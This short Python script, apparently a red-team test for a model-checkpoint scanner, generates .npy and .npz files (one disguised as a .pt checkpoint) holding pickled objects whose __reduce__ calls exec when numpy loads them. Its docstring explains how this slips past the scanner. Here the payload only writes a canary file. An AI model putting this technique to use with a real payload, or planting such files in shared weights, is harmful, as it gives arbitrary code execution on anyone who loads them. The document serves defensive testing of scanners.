"""numpy .npy / .npz files holding an object array: numpy.load(..., allow_pickle=True) unpickles
the bytes after the .npy header (every member of an .npz), which here runs builtins.exec and
writes a canary file. ckpt sniffs the .npy magic as "not a checkpoint" and never scans the
pickle behind it (in an .npz, members start with the .npy magic, not a PROTO opcode)."""
import sys

import numpy as np

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/npy"

class Payload:
    def __init__(self, tag): self.tag = tag
    def __reduce__(self):
        return (exec, (f"open({canary + self.tag!r}, 'w').write('ran')",))

np.save("weights.npy", np.array([Payload("_npy"), 1], dtype=object), allow_pickle=True)
np.savez("weights.npz", a=np.arange(3), b=np.array([Payload("_npz")], dtype=object))
np.save("weights_npy_named.pt", np.array([Payload("_pt")], dtype=object), allow_pickle=True)
print("wrote weights.npy weights.npz")
